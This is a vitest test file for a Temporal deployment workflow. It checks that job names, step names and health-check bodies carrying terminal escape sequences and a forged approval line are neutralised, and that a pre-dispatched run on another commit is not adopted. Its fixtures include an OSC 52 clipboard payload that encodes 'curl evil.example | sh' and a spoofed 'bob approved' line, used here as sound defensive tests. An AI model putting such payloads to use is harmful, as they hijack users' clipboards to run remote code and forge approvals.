// Untrusted text is made inert where it enters, not only where it is rendered: a
// GitHub run whose failing job and step are named with escape sequences and a forged line, and
// an app whose health answer says the same, leave none of it in the deployment's status or in
// the activity results of its history. And a run someone pre-dispatched with the deployment's
// correlation id, but of another commit, is not adopted as the deploy run.
import type { WorkflowHandle } from '@temporalio/client';
import { describe, expect } from 'vitest';
import { startDeployment } from '../client/start-deployment.js';
import { correlationIdFor } from '../contract/correlation-id.js';
import { deployInputs } from '../contract/dispatch-inputs.js';
import type { DeploymentStatus } from '../contract/types.js';
import { it } from './support/fixture.js';
import { labPlan } from './support/harness.js';
import { finalStatus } from './support/final-status.js';

const OSC52 = `\u001b]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}\u0007`;
const CLEAR = '\u001b[2J\u001b[H';
const FORGED = '\n    ✓ bob approved at 12:00:00';
const CONTROL = /[\u0000-\u001f\u007f-\u009f]/;

/** Every string of `value` (a status, an activity result), with where it is. */
function strings(value: unknown, at = '$'): Array<[string, string]> {
  if (typeof value === 'string') return [[at, value]];
  if (value === null || typeof value !== 'object') return [];
  return Object.entries(value).flatMap(([key, item]) => strings(item, `${at}.${key}`));
}

/** The activity results recorded in the history, decoded (the test worker has no payload codec). */
async function activityResults(handle: WorkflowHandle): Promise<unknown[]> {
  const history = await handle.fetchHistory();
  return (history.events ?? []).flatMap((event) =>
    (event.activityTaskCompletedEventAttributes?.result?.payloads ?? [])
      .map((payload) => Buffer.from(payload.data ?? new Uint8Array()).toString('utf8'))
      .filter((text) => text !== '')
      .map((text) => JSON.parse(text) as unknown),
  );
}

/** Nothing of the hostile text's escapes or line breaks is left in `status` or the history's activity results. */
async function expectInert(handle: WorkflowHandle, status: DeploymentStatus) {
  for (const [where, text] of [...strings(status), ...strings(await activityResults(handle), '$history')]) {
    expect(text, where).not.toMatch(CONTROL);
    expect(text, where).not.toContain(']52;');
    expect(text, where).not.toContain('[2J');
  }
}

describe('untrusted text from runs and probes, at the source', () => {
  it('a failing job and step named with OSC 52, CSI and a forged line: the status names them inertly', async ({
    lab,
    deploy,
  }) => {
    const job = `deploy${OSC52}${FORGED}`;
    const step = `migrate${CLEAR}${FORGED}\u009b31m`;
    lab.github.addWorkflow({
      file: 'deploy-hostile.yml',
      name: 'Deploy',
      jobs: [{ name: job, steps: ['Set up job', step, 'Complete job'] }],
      effect: { type: 'deploy', color: 'green' },
    });
    lab.github.setWorkflowBehavior('deploy-hostile.yml', { conclusion: 'failure', failJob: job, failStep: step });
    const { handle } = await deploy('svc-hostile-job', {
      environments: { green: { deployWorkflow: 'deploy-hostile.yml' } },
    });
    const result = await finalStatus(handle);
    expect(result.outcome).toBe('FAILED');
    expect(result.error).toMatch(/job "deploy ✓ bob approved at 12:00:00", step "migrate ✓ bob approved at 12:00:00"/);
    await expectInert(handle, result);
  });

  it('an app whose health answer carries the same: verify fails naming it inertly', async ({ lab, deploy }) => {
    lab.apps.setFault('green', { body: `${OSC52}oops${CLEAR}${FORGED}\u009b31m` });
    lab.apps.setHealthy('green', false);
    const { handle } = await deploy('svc-hostile-body', { verify: { timeout: '1s', interval: '100ms' } });
    const result = await finalStatus(handle);
    expect(result.outcome).toBe('FAILED');
    expect(result.error).toMatch(/HTTP 503 from .*: oops ✓ bob approved at 12:00:00/);
    await expectInert(handle, result);
  });

  it('a run pre-dispatched with the correlation id but of another commit is not adopted as the deploy run', async ({
    lab,
    worker,
    client,
    taskQueue,
  }) => {
    const plan = labPlan(lab, 'svc-predispatched', {
      approval: { required: false },
      monitor: { duration: '1s', interval: '100ms', failureThreshold: 3 },
    });
    const green = plan.environments.green;
    const correlationId = correlationIdFor(plan.deploymentId, 'deploy');
    // Dispatched under the worker's own login (a shared bot token), on the commit before the planned one.
    const oldSha = lab.github.branchHead(green.branch)!;
    const theirs = lab.github.dispatchAs('bluegreen-bot', {
      workflow: green.deployWorkflow,
      ref: green.branch,
      inputs: deployInputs(correlationId, 'green', oldSha),
      sha: oldSha,
    });
    const planned = lab.github.pushCommit(green.branch, 'the commit this deployment ships');
    expect(worker).toBeDefined();
    const handle = await startDeployment(client, plan, { taskQueue });
    const result = await finalStatus(handle);
    expect(result.outcome, result.error).toBe('SUCCEEDED');
    expect(result.sha).toBe(planned);
    const deployRun = Number(/\/actions\/runs\/(\d+)/.exec(result.phases.find((p) => p.name === 'deploy')!.url!)![1]);
    expect(deployRun).not.toBe(theirs);
    expect(lab.github.run(deployRun)!.headSha).toBe(planned);
    expect(lab.github.dispatchCount(green.deployWorkflow, correlationId)).toBe(2);
  });
});
